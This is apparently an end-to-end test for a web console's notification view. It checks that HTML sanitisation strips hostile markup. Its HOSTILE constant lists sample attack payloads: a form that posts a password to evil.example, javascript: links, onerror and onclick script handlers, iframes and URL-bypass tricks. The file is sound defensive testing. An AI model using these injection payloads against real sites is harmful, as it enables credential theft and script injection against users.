import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { HTTPRequest } from 'puppeteer-core';
import type { NotificationDto } from '@coop/contracts';
import { signIn, tid, waitForPath, waitForText } from './support/console.js';
import { startProduct, type Product } from './support/product.js';

/**
 * An "html" notification shows only the markup the product writes (issue 38): the built console, on the real product,
 * is handed a notification whose markup carries what an attacker would put there (the API's answer for it is replaced
 * in the browser: no route of the product writes html). Before, react-admin's default DOMPurify kept `<style>`,
 * `<form>` with its inputs, images and links to other servers; now only text formatting and links to the console's own
 * pages are left, the texts inside removed elements kept as text.
 */

const HOSTILE = [
  '<style>body { display: none }</style>',
  '<p>Before the style</p><style>body { display: none }</style>',
  '<form action="https://evil.example/steal" method="post"><input name="password" value="x"><button>Send</button></form>',
  '<p><strong>Kept</strong> and <em>kept</em><br>in a paragraph</p>',
  '<ul><li>one</li></ul>',
  '<a href="https://evil.example/">external</a>',
  '<a href="//evil.example/x">protocol-relative</a>',
  '<a href="/\\evil.example/x">backslash</a>',
  '<a href="javascript:window.__pwned=1">script link</a>',
  '<a href="/api/v1/users">api</a>',
  '<a href="/members/m-1" target="_blank" style="color:red" onclick="window.__pwned=2">member</a>',
  '<img src="/favicon.ico" onerror="window.__pwned=3" onload="window.__pwned=3">',
  '<iframe src="https://evil.example/"></iframe><svg><a href="https://evil.example/">svg</a></svg>',
].join('');

const NOTIFICATION: NotificationDto = {
  id: 'html-1',
  type: 'html',
  time: '2026-11-28T10:00:00.000Z',
  seen: false,
  message: 'taskCompleted',
  parameters: ['fsak'],
  entityClass: null,
  entityId: null,
  errors: [],
  member: null,
  memberNr: null,
  html: HOSTILE,
  taskId: null,
};

describe('an html notification in the console', () => {
  let product: Product;

  beforeAll(async () => {
    product = await startProduct({ COOPERATIVE_NAME: 'Test eG' });
  }, 90_000);
  afterAll(async () => {
    await product?.close();
  });

  it('keeps text formatting and links to the console’s own pages, and nothing else', async () => {
    const page = await product.newPage();
    await page.setRequestInterception(true);
    page.on('request', (req: HTTPRequest) => {
      if (new URL(req.url()).pathname === `/api/v1/notifications/${NOTIFICATION.id}`) {
        void req.respond({ status: 200, contentType: 'application/json', body: JSON.stringify(NOTIFICATION) });
      } else void req.continue();
    });
    await page.goto(`${product.baseUrl}/login?redirect=${encodeURIComponent(`/notifications/${NOTIFICATION.id}`)}`);
    await signIn(page, 'admin', product.adminPassword);
    await waitForPath(page, (p) => p === `/notifications/${NOTIFICATION.id}`, 'the notification');
    await waitForText(page, tid('notification-html'), 'Kept');
    const shown = await page.$eval(tid('notification-html'), (box) => ({
      tags: [...new Set(Array.from(box.querySelectorAll('*'), (el) => el.tagName.toLowerCase()))].sort(),
      links: Array.from(box.querySelectorAll('a'), (a) => [a.textContent, a.getAttribute('href')]),
      attributes: Array.from(box.querySelectorAll('*')).flatMap((el) =>
        Array.from(el.attributes, (a) => `${el.tagName.toLowerCase()}[${a.name}]`),
      ),
      text: (box as HTMLElement).innerText,
    }));
    // RichTextField's own wrappers (span) and the allowed formatting; no style, form, input, button, img, iframe, svg.
    expect(shown.tags.filter((tag) => !['span', 'p', 'strong', 'em', 'br', 'ul', 'li', 'a'].includes(tag))).toEqual([]);
    expect(shown.links).toEqual([
      ['external', null],
      ['protocol-relative', null],
      ['backslash', null],
      ['script link', null],
      ['api', null],
      ['member', '/members/m-1'],
    ]);
    expect(shown.attributes.filter((a) => !/^span\[class\]$|^a\[href\]$/.test(a))).toEqual([]);
    expect(shown.text).toContain('in a paragraph');
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null)).toBeNull();
    // The page itself is still shown: the injected style did not hide it.
    expect(await page.$eval('body', (b) => getComputedStyle(b).display)).not.toBe('none');
    await page.browserContext().close();
  }, 90_000);
});
